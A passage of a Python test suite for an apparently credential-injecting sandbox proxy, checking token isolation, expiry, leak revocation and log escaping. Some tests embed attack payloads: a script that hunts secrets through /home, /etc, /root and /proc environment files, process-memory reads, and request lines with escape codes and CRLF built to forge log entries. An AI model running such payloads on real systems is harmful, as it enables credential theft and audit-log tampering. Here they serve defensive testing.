    Removal("secrets/foreign_credentials.py", "return CREDENTIAL_SHAPE.fullmatch(text) is not None", "return False"),
    cases="""
    parameter private_token | parameter acme-token | parameter user_password | parameter hapikey |
    parameter session[token]
    """,
)
@no_guard("it concerns one connection only, and is left out with all that does", cases="a header of a proxy")
@no_guard("it is no address at all to whoever reads targets", cases="a user in the address")
@pytest.mark.parametrize("what", FOREIGN)
async def test_a_desk_cannot_use_credentials_of_its_own(cases: dict[str, Case], what: str) -> None:
    case = cases[f"foreign {what}"]
    assert MINE.encode() not in case.arrived
    if what.startswith("unlisted "):
        assert case.answer.status == 200
        assert case.answer.header("X-Hotdesk-Removed-Headers") == what.removeprefix("unlisted ").lower()
    elif what != "a header of a proxy":
        assert case.answer.status in REFUSED
        assert case.seen == ()


@falls_without(
    "bodies are looked into",
    Removal("door/request_body.py", "if self.allowed is None or self.signed:", "if True:"),
    cases=FOREIGN_BODIES,
)
@falls_without(
    "bodies a secret goes into are looked into",
    Removal("door/exchange.py", "        self.body.check_whole(body)\n", ""),
    cases="where a secret goes | in a secret's place",
)
@falls_without(
    "packed bodies are looked into",
    Removal(
        "secrets/upload_watch.py",
        "self.inside = UploadWatcher(fields=fields) if reader",
        "self.inside = UploadWatcher() if reader",
    ),
    cases="JSON in gzip",
)
@falls_without(
    "fields are found far behind and in other spellings",
    Removal("secrets/credential_fields.py", "self.tail = data[-REACH:]\n", "self.kinds = ()\n"),
    Removal("secrets/credential_fields.py", 'data = data.replace(b"\\0", b"")', "return"),
    cases="a form, far behind | JSON, deep and far | JSON in UTF-16",
)
@pytest.mark.parametrize("what", FOREIGN_BODIES)
async def test_a_desk_cannot_use_credentials_of_its_own_in_a_body(cases: dict[str, Case], what: str) -> None:
    case = cases[f"foreign body {what}"]
    assert MINE.encode() not in case.arrived.replace(b"\0", b"").replace(b"\\x00", b"")
    assert not any(len(seen.body) == len(FOREIGN_BODIES[what][1]) for seen in case.seen)
    assert case.answer.status in REFUSED


@no_guard(MUST_WORK)
async def test_ordinary_client_headers_arrive(cases: dict[str, Case]) -> None:
    (seen,) = cases["ordinary"].seen
    assert {name: seen.header(name) for name in ORDINARY} == ORDINARY
    assert cases["ordinary"].answer.header("X-Hotdesk-Removed-Headers") == ""
    (form,) = cases["ordinary form"].seen
    assert form.body == b"csrf_token=1&_token=2&page_token=3&keyword=4&note=%22password%22"
    (document,) = cases["ordinary JSON"].seen
    assert json.loads(document.body) == {"key": "A-1", "max_tokens": 5, "properties": {"password": {"type": "string"}}}


@falls_without(
    "no new credentials",
    Removal("secrets/inject.py", "if here and not minting_named and (what :=", "if False and (what :="),
)
@pytest.mark.parametrize("what", MINTED)
async def test_requests_that_create_credentials_are_refused(cases: dict[str, Case], what: str) -> None:
    case = cases[f"minted {what}"]
    assert case.answer.status == 403
    assert b"new credentials" in case.answer.body
    assert case.seen == ()


@falls_without(
    "no upgrade where a secret goes",
    UPGRADES_PASS,
    Removal(
        "door/exchange.py",
        'if self.request.upgrade != b"websocket":\n            raise',
        "if False:\n            raise",
    ),
)
@pytest.mark.parametrize("what", UPGRADES)
async def test_no_connection_is_upgraded_at_a_granted_host(cases: dict[str, Case], what: str) -> None:
    case = cases[f"upgrade {what}"]
    assert case.answer.status in (403, 501)
    assert case.seen == ()


@falls_without("no upgrade where a secret goes")
async def test_an_unknown_upgrade_is_refused_everywhere(cases: dict[str, Case]) -> None:
    assert cases["upgrade elsewhere"].answer.status == 501
    assert cases["upgrade elsewhere"].seen == ()


@no_guard("the secret is put in after what the desk named is gone")
async def test_a_hop_by_hop_header_name_does_not_remove_the_secret(cases: dict[str, Case]) -> None:
    (seen,) = cases["hop"].seen
    assert seen.header("authorization") == f"Bearer {A.decode()}"


# -- what hosts issue, and what is made for each use -------------------------------------------------------------------


@falls_without(
    "what hosts issue is kept outside", Removal("door/egress.py", "if found is None and not granted:", "if True:")
)
async def test_issued_tokens_stay_outside_and_return_only_to_their_host(room: Room, visit: Visit) -> None:
    token, session = "issued-real-token-0123456789abcdef", "issued-real-session-0123456789"
    room.up.answers["/token"] = (
        200,
        {"Content-Type": "application/json"},
        json.dumps({"access_token": token}).encode(),
    )
    room.up.answers["/session"] = (200, {"Set-Cookie": f"sid={session}; HttpOnly; Path=/"}, b"in")
    issued, cookie = await visit(
        room.desk, {"host": "issue.test", "path": "/token"}, {"host": "issue.test", "path": "/session"}
    )
    assert b"real" not in issued.told + cookie.told
    bearer = ["Authorization", f"Bearer {json.loads(issued.body)['access_token']}"]
    sid = ["Cookie", cookie.header("set-cookie").partition(";")[0]]
    since = len(room.up.seen)
    there = await visit(room.desk, *({"host": "issue.test", "headers": [each]} for each in (bearer, sid)))
    assert [answer.status for answer in there] == [200, 200]
    assert room.up.seen[since].header("authorization") == f"Bearer {token}"
    assert room.up.seen[since + 1].header("cookie") == f"sid={session}"
    since = len(room.up.seen)
    elsewhere = [{"host": host, "headers": [each]} for host in (FREE, "b.test") for each in (bearer, sid)]
    crossed = [{"host": "issue.test", "headers": [["Cookie", f"other={sid[1].partition('=')[2]}"]]}]
    assert {answer.status for answer in await visit(room.desk, *elsewhere, *crossed)} == {403}
    assert len(room.up.seen) == since


@falls_without("grants of another step are not held", cases="another step")
@falls_without("revoked grants are not held", cases="revoked")
@pytest.mark.parametrize("how", ["revoked", "another step"])
async def test_issued_tokens_end_with_their_grant(room: Room, visit: Visit, how: str) -> None:
    room.up.answers["/session"] = (200, {"Set-Cookie": "sid=issued-real-session-0123456789; HttpOnly"}, b"in")
    assert room.host.doors is not None
    async with room.host.open_desk(scope=room.scope("token-i@issue.test step=one", rules=["read issue.test"])) as desk:
        await room.host.doors.enter_step(desk.id, "one")
        (answer,) = await visit(desk, {"host": "issue.test", "path": "/session"})
        sent = {"host": "issue.test", "headers": [["Cookie", answer.header("set-cookie").partition(";")[0]]]}
        (before,) = await visit(desk, sent)
        await (
            room.host.doors.revoke(desk.id, "token-i")
            if how == "revoked"
            else room.host.doors.enter_step(desk.id, "two")
        )
        (after,) = await visit(desk, sent)
    assert (before.status, after.status) == (200, 403)


@falls_without(
    "sessions end with any grant of their host",
    Removal("door/egress.py", "not found.grants <= active or ", ""),
)
async def test_issued_tokens_end_with_their_grant_though_the_host_has_another(room: Room, visit: Visit) -> None:
    room.up.answers["/session"] = (200, {"Set-Cookie": "sid=issued-real-session-0123456789; HttpOnly"}, b"in")
    assert room.host.doors is not None
    scope = room.scope("token-i@issue.test", "token-a@issue.test header=X-Api-Key swap", rules=["read issue.test"])
    async with room.host.open_desk(scope=scope) as desk:
        (answer,) = await visit(desk, {"host": "issue.test", "path": "/session"})
        sent = {"host": "issue.test", "headers": [["Cookie", answer.header("set-cookie").partition(";")[0]]]}
        (before,) = await visit(desk, sent)
        await room.host.doors.revoke(desk.id, "token-i")
        (after,) = await visit(desk, sent)
    assert (before.status, after.status) == (200, 403)


@falls_without(
    "minted tokens are kept while they live",
    Removal("secrets/mint.py", "if live.minted and now < live.fresh_until:", "if False:"),
)
async def test_a_client_token_is_requested_once_and_renewed_near_its_end(room: Room, visit: Visit) -> None:
    minted = {"access_token": "minted-real-token-0123456789", "expires_in": 3600}
    room.tokens.answers["/token"] = (200, {}, json.dumps(minted).encode())
    since = len(room.up.seen)
    answers = await visit(room.desk, *[{"host": "oauth.test"}] * 3)
    assert [answer.status for answer in answers] == [200] * 3
    assert {seen.header("authorization") for seen in room.up.seen[since:]} == {"Bearer minted-real-token-0123456789"}
    assert len(room.tokens.seen) == 1
    pair = base64.b64encode(b"client-e:" + CLIENT).decode()
    assert room.tokens.seen[0].header("authorization") == f"Basic {pair}"
    assert not any(b"real" in answer.told for answer in answers)


@falls_without(
    "minted tokens are not kept beyond their life",
    Removal(
        "secrets/mint.py",
        'live.fresh_until = min(now + max(life - MARGIN, life / 2), live.until or float("inf"))',
        "live.fresh_until = now + 3600",
    ),
)
async def test_a_token_near_its_end_is_made_again_and_a_missing_one_is_an_error(room: Room, visit: Visit) -> None:
    minted = {"access_token": "minted-brief-token-0123456789", "expires_in": 1}
    room.tokens.answers["/token"] = (200, {}, json.dumps(minted).encode())
    async with room.host.open_desk(scope=room.scope("oauth-e@oauth.test", rules=["read oauth.test"])) as desk:
        since = len(room.tokens.seen)
        await visit(desk, {"host": "oauth.test"})
        await anyio.sleep(0.6)
        await visit(desk, {"host": "oauth.test"})
        assert len(room.tokens.seen) == since + 2
        room.tokens.answers["/token"] = (500, {}, b"down " + CLIENT)
        await anyio.sleep(0.6)
        arrived = len(room.up.seen)
        (failed,) = await visit(desk, {"host": "oauth.test"})
        assert failed.status == 502
        assert b"token server responded with status 500" in failed.body
        assert len(room.up.seen) == arrived
        assert CLIENT not in failed.told


@no_guard(MUST_WORK)
async def test_a_one_time_code_is_made_for_its_use(room: Room, visit: Visit) -> None:
    seed, before = base64.b32decode(SEED), time.time()
    sent = {"host": "totp.test", "method": "POST", "path": "/login", "headers": [FORM]}
    (answer,) = await visit(room.desk, sent | {"body": text(f"code={room.held['D']}".encode())})
    assert answer.status == 200
    assert room.up.seen[-1].body.decode() in {f"code={compute_totp_code(seed, at)}" for at in (before, time.time())}
    assert compute_totp_code(seed, 59) == "287082", "RFC 6238, appendix B, its last six digits"


@falls_without(
    "programs that print tokens are the keys' user's",
    Removal("keys/token_command.py", "if os.geteuid() == 0:", "if False:"),
)
async def test_a_program_that_prints_a_token_is_not_root(room: Room, visit: Visit) -> None:
    (answer,) = await visit(room.desk, {"host": "command.test"})
    assert answer.status == 200
    assert room.up.seen[-1].header("authorization") == f"Bearer printed-by-uid-{uids.KEYS}-gid-{uids.KEYS}"
    assert b"printed-by" not in answer.told


@falls_without(
    "a leak ends the grant",
    Removal("door/egress.py", "for live in [live for id, live in self.live.items() if id in ids]:", "for live in []:"),
)
async def test_a_guessed_secret_echoed_by_another_host_revokes_the_grant(room: Room, visit: Visit) -> None:
    async with room.host.open_desk(scope=room.scope("token-b@b.test header=X-Api-Key swap env=B")) as desk:
        used = {"host": "b.test", "headers": [["X-Api-Key", (await placeholders(desk))["B"]]]}
        wrong = {"host": FREE, "method": "POST", "body": text(b"guess=bravo-real-value-0123456789abcdeX")}
        right = {"host": FREE, "method": "POST", "body": text(b"guess=" + SECRETS["token-b"])}
        answers = await visit(desk, used, wrong, used, right, used)
        assert [answer.status for answer in answers] == [200, 200, 200, 200, 403]
        assert SECRETS["token-b"] not in answers[3].body
        told = [(row.name, json.loads(row.data)) for row in room.rows(desk)]
        assert [data["host"] for name, data in told if name == "Alarm" and data["what"] == "leak"] == [FREE]


# -- nowhere to be found -----------------------------------------------------------------------------------------------

EVERYTHING = (*SECRETS.values(), PASSWORD, CLIENT, SEED)
LOOK = """
secrets = [bytes(each) for each in given["secrets"]]
secrets = [bytes(b ^ 0x55 for b in each) for each in secrets]
found = []

def look(path):
    try:
        with open(path, "rb") as file:
            data = file.read(4 << 20)
    except OSError:
        return
    found.extend(path for each in secrets if each in data or base64.b64encode(each)[:24] in data)

import base64
for top in ("/home", "/tmp", "/run", "/etc", "/var", "/dev/shm", "/root", "/srv"):
    for folder, _, files in os.walk(top):
        for file in files:
            path = os.path.join(folder, file)
            if os.path.isfile(path):
                look(path)
me = str(os.getpid())
for pid in filter(str.isdigit, os.listdir("/proc")):
    for file in ("environ", "cmdline", "status", "comm", "maps", "mountinfo"):
        if pid != me:
            look("/proc/%s/%s" % (pid, file))
tell(sorted(set(found)))
"""


@falls_without(
    "a desk is given placeholders",
    Removal(
        "keys/charter.py",
        "variables = {one.grant.env: one.placeholder for one in self.granted if one.grant.env}\n",
        "variables = {one.grant.env: one.placeholder for one in self.granted if one.grant.env}\n"
        '        variables |= {f"X{one.id}": base64.b64decode(one.values["value"]).decode()\n'
        '                  for one in self.granted if "value" in one.values}\n',
    ),
)
async def test_no_secret_is_in_the_desk(room: Room, attack: Attack, cases: dict[str, Case]) -> None:
    assert all(REMOVED in cases[name].answer.told or name == "basic" for name in RIGHT), "they were used"
    hidden = [[byte ^ 0x55 for byte in each] for each in EVERYTHING]
    assert await attack(room.desk, LOOK, secrets=hidden) == []
    values = (await room.desk.run(["env"])).stdout
    assert MARK in values
    assert not any(each in values for each in EVERYTHING)


@no_guard("no event has a field for a value")
async def test_no_secret_is_in_the_journal_or_what_shows_it(
    room: Room, command: Command, cases: dict[str, Case]
) -> None:
    shown = [await command(room.settings, "journal", "show"), await command(room.settings, "journal", "show", "--json")]
    shown += [await command(room.settings, "door", "log")]
    assert all(each.returncode == 0 and b"token-a" in each.stdout for each in shown)
    files = [file for file in (room.settings.lib / "keys").iterdir() if file.is_file()]
    files += [file for file in room.settings.run.rglob("*") if file.is_file()]
    texts = [each.stdout + each.stderr for each in shown] + [file.read_bytes() for file in files]
    assert not any(each in told or base64.b64encode(each) in told for each in EVERYTHING for told in texts)


@no_guard("no event has a field for a variable")
async def test_environment_variables_of_a_desk_are_not_recorded(room: Room) -> None:
    value = "variable-real-value-0123456789"
    async with room.host.open_desk(Spec(env={"TOKEN": value}), room.scope("token-b@b.test")) as desk:
        assert (await desk.run(["printenv", "TOKEN"])).text.strip() == value
    assert value.encode() not in room.journal.read_bytes()


OWNER = """
import json, sys
from dataclasses import replace
from pathlib import Path
import anyio
from hotdesk.brief import parse_scope
from hotdesk.config import Config
from hotdesk.host import Host

async def main():
    run, lib, images, ca, scope = sys.argv[1:]
    settings = Config(run=Path(run), lib=Path(lib), images=Path(images), ca=ca)
    async with Host(settings, control=False) as host, host.open_desk(scope=parse_scope(json.loads(scope))) as desk:
        done = await desk.run(["curl", "-sS", "https://a.test/data"], timeout=30)
        print(json.dumps({"keeper": host.runtime.keeper.pid, "told": done.text}), flush=True)
        await anyio.to_thread.run_sync(sys.stdin.readline)

anyio.run(main)
"""


@falls_without("a desk is given placeholders")
async def test_owner_and_keeper_never_hold_a_secret(room: Room) -> None:
    told = scope_json(room.scope("token-a@a.test"))
    settings = room.settings
    argv = [settings.run, settings.lib, settings.images, settings.ca, told]
    with subprocess.Popen(
        [sys.executable, "-c", OWNER, *map(str, argv)], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    ) as owner:
        assert owner.stdout is not None
        assert owner.stdin is not None
        line = await anyio.to_thread.run_sync(owner.stdout.readline)
        said = json.loads(line)
        assert "hotdesk-removed" in said["told"]
        holds = {pid: held(pid, A) for pid in (owner.pid, said["keeper"], part(said["keeper"], uids.DOOR))}
        owner.stdin.close()
        owner.wait(20)
    assert list(holds.values()) == [False, False, True]


def held(pid: int, value: bytes) -> bool:
    forms = (value, base64.b64encode(value)[:24])
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            (
                ends,
                rights,
                *_,
            ) = line.split()
            start, end = (int(each, 16) for each in ends.split("-"))
            if rights.startswith("rw") and end - start < 1 << 30:
                with suppress(OSError, ValueError, OverflowError):
                    memory.seek(start)
                    data = memory.read(end - start)
                    if any(form in data for form in forms):
                        return True
    return False


@no_guard("the keeper's own limit is inherited, and whoever changes its user cannot be dumped")
@pytest.mark.parametrize("who", ["door", "keys"])
async def test_processes_with_secrets_leave_no_core_and_no_readable_memory(room: Room, who: str) -> None:
    pid = room.part(uids.DOOR if who == "door" else uids.KEYS)
    limits = Path(f"/proc/{pid}/limits").read_text()
    assert re.search(r"Max core file size +1 +1 ", limits)
    assert os.stat(f"/proc/{pid}/environ").st_uid == 0, "it can be dumped: the kernel gives its files to its user"


@falls_without(
    "parts have no environment but a path",
    Removal("ipc/child.py", '{"PATH": os.defpath},', '{"PATH": os.defpath, "API_KEY": "x"},'),
)
async def test_the_hosts_environment_is_passed_to_no_process(room: Room) -> None:
    assert isinstance(room.host.runtime, KeeperRuntime)
    keeper = room.host.runtime.keeper.pid
    family = [pid for pid in pids() if parent(pid) == keeper or parent(parent(pid)) == keeper]
    names = set()
    for pid in family:
        with suppress(OSError):
            status = Path(f"/proc/{pid}/status").read_text()
            if any(f"\nUid:\t{uid}\t" in status for uid in (uids.DOOR, uids.KEYS, uids.RESOLVER)):
                told = Path(f"/proc/{pid}/environ").read_bytes()
                names |= {each.partition(b"=")[0] for each in told.split(b"\0") if each}
    assert names == {b"PATH"}


INJECT = r"""
import ssl
lines = [
    b"GET http://a.test/x\x1b[31mred HTTP/1.1\r\nHost: a.test\r\n\r\n",
    b"GET http://a.test/%0d%0a2026-01-01%20allow HTTP/1.1\r\nHost: a.test\r\n\r\n",
    b"GET http://a.test/%1b%5b31m%e2%80%ae HTTP/1.1\r\nHost: a.test\r\n\r\n",
    b"G\x1bT http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n",
    b"GET http://a\x1b[2J.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n",
    b"GET http://evil%1b.test/ HTTP/1.1\r\nHost: evil%1b.test\r\n\r\n",
    b"CONNECT e\xe2\x80\xaevil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET http://a.test/?a%0a=1&b\x1b=2 HTTP/1.1\r\nHost: a.test\r\n\r\n",
    b"A" * 40 + b" http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n",
    b"POST http://door.local/ask HTTP/1.1\r\nHost: door.local\r\nX-Hotdesk-Ask: 1\r\nContent-Length: %d\r\n\r\n",
]
question = json.dumps({"rule": "GET x.test/a", "reason": "\x1b[31m\r\n2026 approved \u202e\x9b"}).encode()
for line in lines:
    s = socket.create_connection(("127.0.0.1", 3128))
    s.settimeout(2)
    s.sendall(line % len(question) + question if b"%d" in line else line)
    try:
        s.recv(4096)
    except OSError:
        pass
    s.close()
tell("done")
"""


@falls_without(
    "words of a desk are made plain",
    Removal(
        "door/egress.py", 'c if c.isascii() and c.isprintable() else "?" for c in reason[:REASON]', "reason[:REASON]"
    ),
    Removal(
        "machine/door.py", 'return make_printable(f"{format_moment(row.at)}', 'return str(f"{format_moment(row.at)}'
    ),
)
async def test_text_of_a_desk_in_the_log_is_escaped(room: Room, attack: Attack, command: Command) -> None:
    before = len((await command(room.settings, "door", "log")).stdout.splitlines())
    await attack(room.desk, INJECT)
    for act in (("door", "log"), ("door", "log", "--json"), ("journal", "show")):
        shown = (await command(room.settings, *act)).stdout.decode()
        assert all(c == "\n" or (c.isprintable() and c.isascii()) for c in shown), act
        assert not any(line.startswith(("2026-01-01 allow", "2026 approved")) for line in shown.splitlines())
    assert len((await command(room.settings, "door", "log")).stdout.splitlines()) > before + 5
    assert all(ord(c) < 127 for row in room.rows() for c in row.data)


@falls_without("a head that is gone is missed", Removal("drive/journal_audit.py", "elif found is None:", "elif False:"))
async def test_the_journal_is_intact_afterwards_and_truncation_is_detected(
    room: Room, command: Command, tmp_path: Path
) -> None:
    heads = tmp_path / "heads"
    heads.write_bytes((await command(room.settings, "journal", "head")).stdout)
    assert (await command(room.settings, "journal", "verify", "--since", str(heads))).returncode == 0
    lib = tmp_path / "home" / "lib"
    shutil.copytree(room.settings.lib / "keys", lib / "keys")
    with closing(sqlite3.connect(lib / "keys" / room.journal.name)) as db, db:
        db.execute("DELETE FROM events WHERE id > (SELECT max(id) FROM events) - 3")
    cut = replace(room.settings, run=tmp_path / "home" / "run", lib=lib)
    told = await command(cut, "journal", "verify", "--since", str(heads))
    assert told.returncode == 1
    assert b"events were removed from the end of the chain" in told.stdout


def requests(room: Room) -> dict[str, dict[str, Any]]:
    made: dict[str, dict[str, Any]] = {
        f"{where} to {host}": {"host": host, **make(room.held["A"])}
        for where, make in STRAY.items()
        for host in STRAY_HOSTS
    }
    made |= {where: make(dict(room.held)) for where, (make, _) in RIGHT.items()}
    made |= {where: make(room.held["P"]) for where, make in WRONG.items()}
    for number, (where, answer) in enumerate({**REFLECTED, **UNREADABLE}.items()):
        room.up.answers[f"/echo/{number}"] = answer
        made[f"reflected in {where}"] = {"host": "a.test", "path": f"/echo/{number}"}
    for number, (where, said) in enumerate(BROKEN_UP.items()):
        room.raw.says[f"/raw/{number}"] = said
        made[f"hostile {where}"] = {"host": HOSTILE, "path": f"/raw/{number}"}
    made |= {f"foreign {what}": {"host": "a.test", **told} for what, told in FOREIGN.items()}
    made |= {f"minted {what}": {"host": "a.test", "method": m, "path": path} for what, (m, path) in MINTED.items()}
    for what in UPGRADES:
        made[f"upgrade {what}"] = {"host": "a.test", "headers": [["Connection", "Upgrade"], ["Upgrade", what]]}
    made["upgrade elsewhere"] = {"host": FREE, "headers": [["Connection", "Upgrade"], ["Upgrade", "h2c"]]}
    made["hop"] = {"host": "a.test", "headers": [["Connection", "Authorization, X-Case-Not"]]}
    for what, (headers, body) in FOREIGN_BODIES.items():
        told = {"host": "a.test", "path": "/data"} if what not in PINNED else {"host": "pin.test", "path": PINNED[what]}
        sent = body.replace(b"{P}", room.held["P"].encode())
        made[f"foreign body {what}"] = {**told, "method": "POST", "headers": headers, "body": text(sent)}
    made["ordinary"] = {"host": "a.test", "headers": list(ORDINARY.items()), "path": "/data?page_token=1&keyword=2"}
    form = b"csrf_token=1&_token=2&page_token=3&keyword=4&note=%22password%22"
    made["ordinary form"] = {"host": "a.test", "method": "POST", "headers": [FORM], "body": text(form)}
    document = {"key": "A-1", "max_tokens": 5, "properties": {"password": {"type": "string"}}}
    document_text = text(json.dumps(document).encode())
    made["ordinary JSON"] = {"host": "a.test", "method": "POST", "headers": [JSON], "body": document_text}
    for host in PARTED_HOSTS:
        made[f"parts of {host}"] = {"host": host, "headers": [[name, "bytes=0-3"] for name in PARTS]}
    return made
